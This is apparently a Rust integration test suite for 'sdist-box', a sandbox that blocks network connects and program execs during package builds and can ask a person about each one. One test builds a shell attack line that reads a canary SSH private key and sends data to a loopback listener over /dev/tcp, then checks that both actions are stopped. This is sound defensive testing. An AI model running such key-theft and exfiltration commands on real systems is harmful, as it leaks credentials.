//! `sdist-box run`: a plain command in the sandbox, with the streams, the
//! findings and the report of a build; `--ask` driven through a real
//! pseudo-terminal.

mod common;

use std::io::Write;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

use common::pty::{spawn_on_pty, wait_for};
use serde_json::Value;

/// The report at `path`, checked against the report's JSON Schema.
fn report_at(path: &Path) -> Value {
    let text = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("no report at {}: {e}", path.display()));
    let doc: Value = serde_json::from_str(&text).unwrap();
    common::assert_valid(&common::schema("report.schema.json"), &doc, "the report");
    doc
}

fn findings_of<'a>(report: &'a Value, kind: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == kind)
        .collect()
}

/// A shell reads a canary outside the sandbox's view and connects to a
/// listener on the host's loopback: both stopped, and the report names the
/// connect from the kernel stream (an exec'd shell has no audit hook).
fn shell_attack(as_user: Option<(u32, u32)>) {
    let home = common::CanaryHome::new();
    let watch = common::AccessWatch::new(&[&home.path().join(".ssh/id_rsa")]);
    let listener = common::Listener::start();
    listener.self_check();
    let out = common::tempdir_for(as_user);
    let report = out.path().join("run.json");
    let script = format!(
        "cat {key} 2>&1; exec 3<>/dev/tcp/127.0.0.1/{port} && echo stolen >&3; echo attack-ran; true",
        key = home.path().join(".ssh/id_rsa").display(),
        port = listener.port
    );
    let mut cmd = common::sdist_box_as(as_user);
    cmd.arg("run")
        .arg("--report")
        .arg(&report)
        .arg("--cache-dir")
        .arg(out.path().join("cache"))
        .args(["--", "/bin/bash", "-c", &script])
        .env("NO_COLOR", "1")
        .env("HOME", home.path());
    let r = cmd.output().unwrap();
    let stderr = String::from_utf8_lossy(&r.stderr);
    assert!(
        stderr.contains("attack-ran"),
        "the attack did not run:\n{stderr}"
    );
    // Stopped: nothing reached the listener, the key was never opened.
    assert_eq!(listener.connections(), 0, "the listener got a connection");
    assert!(listener.bytes().is_empty());
    assert_eq!(watch.events(), 0, "the canary key was opened");
    home.assert_unchanged();
    assert!(!stderr.contains(common::SECRET), "{stderr}");
    // Named: the blocked connect, from the kernel stream, with the shell.
    let v = report_at(&report);
    let connects = findings_of(&v, "net-connect");
    let target = format!("127.0.0.1:{}", listener.port);
    let f = connects
        .iter()
        .find(|f| f["target"] == target.as_str())
        .unwrap_or_else(|| panic!("no finding for {target}: {:#}", v["findings"]));
    assert_eq!(f["verdict"], "blocked");
    assert_eq!(f["severity"], "blocked");
    assert!(f["seen_by"].as_array().unwrap().contains(&"kernel".into()));
    assert!(
        f["process_chain"][0].as_str().unwrap().contains("bash"),
        "{f:#}"
    );
    assert_eq!(v["outcome"]["status"], "ran");
    assert_eq!(v["command"][0], "/bin/bash");
    assert_eq!(v["hooks"][0]["phase"], "run");
    // The command succeeded, the report has a blocked finding: exit 1.
    assert_eq!(r.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("BLOCKED net-connect"), "{stderr}");
}

#[test]
fn run_stops_and_reports_an_attack_from_a_plain_shell() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    shell_attack(None);
}

#[test]
fn run_stops_and_reports_an_attack_from_a_plain_shell_as_an_unprivileged_user() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    let user = common::test_user();
    require!(
        user.is_some() && common::is_root(),
        "no test user sdistbox-test (or not root to switch to it)"
    );
    shell_attack(user);
}

#[test]
fn ask_allows_one_connect_and_denies_another_through_a_pseudo_terminal() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    let (pty_master, pty_slave) = common::pty::open();
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("ask.json");
    // Two distinct ports on loopback inside the empty network namespace:
    // an allowed connect reaches the kernel (nothing listens: refused), a
    // denied one fails in the supervisor (permission denied).
    let script = "exec 3<>/dev/tcp/127.0.0.1/4101 || echo first-failed; \
                  exec 4<>/dev/tcp/127.0.0.1/4102 || echo second-failed; true";
    let report_arg = report.display().to_string();
    let child = spawn_on_pty(
        &[
            "run",
            "--ask",
            "--ask-timeout",
            "60",
            "--report",
            &report_arg,
            "--",
            "/bin/bash",
            "-c",
            script,
        ],
        &pty_slave,
    );
    drop(pty_slave);
    let mut master = std::fs::File::from(pty_master);
    let mut seen = String::new();
    wait_for(&mut master, &mut seen, 0, "127.0.0.1:4101");
    wait_for(&mut master, &mut seen, 0, "deny in");
    assert!(seen.contains("[y] allow once"), "{seen}");
    assert!(seen.contains("bash"), "the process chain is shown: {seen}");
    master.write_all(b"y").unwrap();
    let mark = seen.len();
    wait_for(&mut master, &mut seen, mark, "127.0.0.1:4102");
    wait_for(&mut master, &mut seen, mark, "deny in");
    master.write_all(b"n").unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    // What the command saw: refused by the (empty) network, then denied.
    assert!(stderr.contains("Connection refused"), "{stderr}");
    assert!(stderr.contains("Permission denied"), "{stderr}");
    assert!(
        !stdout_or_stderr_has_prompt(&out.stdout, &stderr),
        "the question must not go through the command's output"
    );
    let v = report_at(&report);
    let decisions = v["decisions"].as_array().expect("decisions in the report");
    assert_eq!(decisions.len(), 2, "{decisions:#?}");
    assert_eq!(decisions[0]["target"], "127.0.0.1:4101");
    assert_eq!(decisions[0]["answer"], "allow-once");
    assert_eq!(decisions[0]["verdict"], "allowed");
    assert_eq!(decisions[1]["target"], "127.0.0.1:4102");
    assert_eq!(decisions[1]["answer"], "deny");
    assert_eq!(decisions[1]["verdict"], "denied");
    let connects = findings_of(&v, "net-connect");
    let by_port = |p: &str| {
        connects
            .iter()
            .find(|f| f["target"] == p)
            .unwrap_or_else(|| panic!("no finding for {p}: {:#}", v["findings"]))
    };
    assert_eq!(by_port("127.0.0.1:4101")["verdict"], "allowed");
    assert!(
        by_port("127.0.0.1:4101")["decided_by"]
            .as_str()
            .unwrap()
            .contains("allowed once at the --ask prompt")
    );
    assert_eq!(by_port("127.0.0.1:4102")["verdict"], "blocked");
    assert!(
        by_port("127.0.0.1:4102")["decided_by"]
            .as_str()
            .unwrap()
            .contains("denied at the --ask prompt")
    );
}

fn stdout_or_stderr_has_prompt(stdout: &[u8], stderr: &str) -> bool {
    String::from_utf8_lossy(stdout).contains("[y] allow once") || stderr.contains("[y] allow once")
}

#[test]
fn ask_without_a_terminal_denies_and_says_so() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("ask.json");
    let mut cmd = Command::new(common::bin());
    cmd.args(["run", "--ask", "--report"])
        .arg(&report)
        .args([
            "--",
            "/bin/bash",
            "-c",
            "exec 3<>/dev/tcp/127.0.0.1/4103 || echo connect-failed; true",
        ])
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    // SAFETY: setsid only, between fork and exec: no controlling terminal.
    unsafe {
        cmd.pre_exec(|| {
            libc::setsid();
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("connect-failed"), "{stderr}");
    assert!(stderr.contains("Permission denied"), "{stderr}");
    let v = report_at(&report);
    let d = &v["decisions"][0];
    assert_eq!(d["answer"], "no-terminal", "{v:#}");
    assert_eq!(d["verdict"], "denied");
    assert_eq!(d["reason"], "denied: no terminal to ask");
    assert_eq!(out.status.code(), Some(1), "{stderr}");
}

#[test]
fn ask_shows_the_python_origin_and_always_covers_the_same_destination() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    let (pty_master, pty_slave) = common::pty::open();
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    std::fs::write(
        work.join("phone_home.py"),
        "import socket\n\nfor attempt in range(2):\n    try:\n        socket.create_connection(('127.0.0.1', 4105), timeout=5)\n    except OSError as e:\n        print('attempt', attempt, type(e).__name__)\n",
    )
    .unwrap();
    if common::is_root() {
        // The sandbox's uid (unprivileged on the host) writes nothing here,
        // but must read the script.
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&work, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let report = dir.path().join("ask.json");
    let report_arg = report.display().to_string();
    let work_arg = work.display().to_string();
    let child = spawn_on_pty(
        &[
            "run",
            "--ask",
            "--workdir",
            &work_arg,
            "--report",
            &report_arg,
            "--",
            "python3",
            "phone_home.py",
        ],
        &pty_slave,
    );
    drop(pty_slave);
    let mut master = std::fs::File::from(pty_master);
    let mut seen = String::new();
    wait_for(&mut master, &mut seen, 0, "127.0.0.1:4105");
    wait_for(&mut master, &mut seen, 0, "deny in");
    // Where in the script, from the audit hook, labelled as such.
    assert!(seen.contains("/build/src/phone_home.py:5"), "{seen}");
    assert!(seen.contains("could forge"), "{seen}");
    master.write_all(b"a").unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    // Asked once: the second attempt was covered by "always".
    assert_eq!(seen.matches("[y] allow once").count(), 1, "{seen}");
    assert!(
        stderr.contains("attempt 0 ConnectionRefusedError"),
        "{stderr}"
    );
    assert!(
        stderr.contains("attempt 1 ConnectionRefusedError"),
        "{stderr}"
    );
    let v = report_at(&report);
    let answers: Vec<&str> = v["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["answer"].as_str().unwrap())
        .collect();
    assert_eq!(answers, ["always", "allowed-by-always"], "{v:#}");
}

#[test]
fn ask_allows_one_program_and_refuses_another() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    let (pty_master, pty_slave) = common::pty::open();
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("ask.json");
    let report_arg = report.display().to_string();
    let child = spawn_on_pty(
        &[
            "run",
            "--ask",
            "--report",
            &report_arg,
            "--",
            "/bin/bash",
            "-c",
            "/usr/bin/uname -s; /usr/bin/whoami || echo whoami-refused; true",
        ],
        &pty_slave,
    );
    drop(pty_slave);
    let mut master = std::fs::File::from(pty_master);
    let mut seen = String::new();
    wait_for(&mut master, &mut seen, 0, "run /usr/bin/uname -s");
    wait_for(&mut master, &mut seen, 0, "deny in");
    assert!(seen.contains("always for this program"), "{seen}");
    master.write_all(b"y").unwrap();
    let mark = seen.len();
    wait_for(&mut master, &mut seen, mark, "run /usr/bin/whoami");
    wait_for(&mut master, &mut seen, mark, "deny in");
    // Ctrl-C at the prompt: "deny", and sdist-box goes on to its report.
    master.write_all(b"\x03").unwrap();
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Linux"), "uname ran: {stderr}");
    assert!(stderr.contains("whoami-refused"), "{stderr}");
    assert!(stderr.contains("Permission denied"), "{stderr}");
    let v = report_at(&report);
    let d = v["decisions"].as_array().unwrap();
    assert_eq!(d.len(), 2, "{d:#?}");
    assert_eq!(d[0]["syscall"], "execve");
    assert_eq!(d[0]["answer"], "allow-once");
    assert_eq!(d[1]["answer"], "deny");
    let refused = findings_of(&v, "exec")
        .into_iter()
        .find(|f| f["target"].as_str().unwrap().contains("whoami"))
        .unwrap_or_else(|| panic!("no exec finding for whoami: {:#}", v["findings"]));
    assert_eq!(refused["verdict"], "blocked");
    assert_eq!(refused["message"], "a program was refused");
}

/// `--ask` in the allowlist network mode (the host's network namespace): a
/// connect to a port not on the list is put to the person, and once allowed
/// the supervisor makes it on the build's behalf — it reaches the host's
/// loopback listener; a denied one never does.
#[test]
fn ask_allows_an_unlisted_connect_in_the_allowlist_mode() {
    require!(
        common::userns_available(),
        "user namespaces are disabled on this host"
    );
    let listed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let unlisted = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = |l: &std::net::TcpListener| l.local_addr().unwrap().port();
    let (listed_port, unlisted_port, other_port) = (port(&listed), port(&unlisted), port(&other));
    other.set_nonblocking(true).unwrap();
    let accepted = std::thread::spawn(move || {
        unlisted.set_nonblocking(false).unwrap();
        unlisted.accept().map(|(_, peer)| peer).ok()
    });
    let (pty_master, pty_slave) = common::pty::open();
    let dir = tempfile::tempdir().unwrap();
    let profile = dir.path().join("allow.toml");
    std::fs::write(
        &profile,
        format!(
            "version = 1\ndescription = \"allowlist\"\n[network]\nmode = \"allowlist\"\nallow = [\"127.0.0.1:{listed_port}\"]\n"
        ),
    )
    .unwrap();
    let report = dir.path().join("ask.json");
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{unlisted_port} && echo first-connected; \
         exec 4<>/dev/tcp/127.0.0.1/{other_port} || echo second-failed; true"
    );
    let (report_arg, profile_arg) = (report.display().to_string(), profile.display().to_string());
    let child = spawn_on_pty(
        &[
            "run",
            "--profile",
            &profile_arg,
            "--ask",
            "--ask-timeout",
            "60",
            "--fail-on",
            "never",
            "--report",
            &report_arg,
            "--",
            "/bin/bash",
            "-c",
            &script,
        ],
        &pty_slave,
    );
    drop(pty_slave);
    let mut master = std::fs::File::from(pty_master);
    let mut seen = String::new();
    wait_for(
        &mut master,
        &mut seen,
        0,
        &format!("127.0.0.1:{unlisted_port}"),
    );
    wait_for(&mut master, &mut seen, 0, "deny in");
    master.write_all(b"y").unwrap();
    let mark = seen.len();
    wait_for(
        &mut master,
        &mut seen,
        mark,
        &format!("127.0.0.1:{other_port}"),
    );
    wait_for(&mut master, &mut seen, mark, "deny in");
    master.write_all(b"n").unwrap();
    let out = child.wait_with_output().unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "{all}");
    assert!(all.contains("first-connected"), "{all}");
    assert!(all.contains("second-failed"), "{all}");
    assert!(
        accepted.join().unwrap().is_some(),
        "the allowed connect reached the host's listener"
    );
    assert!(
        other.accept().is_err(),
        "the denied connect must not reach its listener"
    );
    let v = report_at(&report);
    let decisions = v["decisions"].as_array().expect("decisions in the report");
    assert_eq!(decisions.len(), 2, "{decisions:#?}");
    assert_eq!(decisions[0]["answer"], "allow-once");
    assert_eq!(decisions[1]["answer"], "deny");
}

#[test]
fn build_ask_without_a_terminal_denies_the_packages_exec_and_reports_it() {
    if !common::ready_for_builds() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // setup.py runs a shell; under --ask with no terminal it is refused:
    // the shell never starts, so os.system reports 127 (exec failed).
    let sdist = common::Sdist::setuptools_with(
        "askpkg",
        "rc = os.system('exit 3')\nprint('os.system returned', rc >> 8, file=sys.stderr)",
    )
    .write(dir.path());
    let out_dir = dir.path().join("dist");
    let mut cmd = Command::new(common::bin());
    cmd.arg("build")
        .arg(&sdist)
        .arg("-o")
        .arg(&out_dir)
        .arg("--find-links")
        .arg(common::wheelhouse().unwrap())
        .args(["--no-index", "--ask", "--cache-dir"])
        .arg(common::env_cache())
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    // SAFETY: setsid only, between fork and exec: no controlling terminal.
    unsafe {
        cmd.pre_exec(|| {
            libc::setsid();
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let v = report_at(&out_dir.join("askpkg-0.1.sdist-box.json"));
    let log = std::fs::read_to_string(out_dir.join("askpkg-0.1.build.log")).unwrap();
    assert!(
        log.contains("os.system returned 127"),
        "the shell ran: {log}"
    );
    assert!(
        !log.contains("os.system returned 3"),
        "the shell ran: {log}"
    );
    assert_eq!(v["outcome"]["status"], "built", "{stderr}");
    let decisions = v["decisions"].as_array().unwrap();
    assert!(!decisions.is_empty(), "{v:#}");
    for d in decisions {
        assert_eq!(d["verdict"], "denied", "{d}");
        assert_eq!(d["reason"], "denied: no terminal to ask", "{d}");
    }
    let exec = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["kind"] == "exec" && f["verdict"] == "blocked")
        .unwrap_or_else(|| panic!("no blocked exec finding: {v:#}"));
    assert!(exec["target"].as_str().unwrap().contains("sh"), "{exec}");
    // A blocked finding: exit 1 under the default --fail-on.
    assert_eq!(out.status.code(), Some(1), "{stderr}");
}
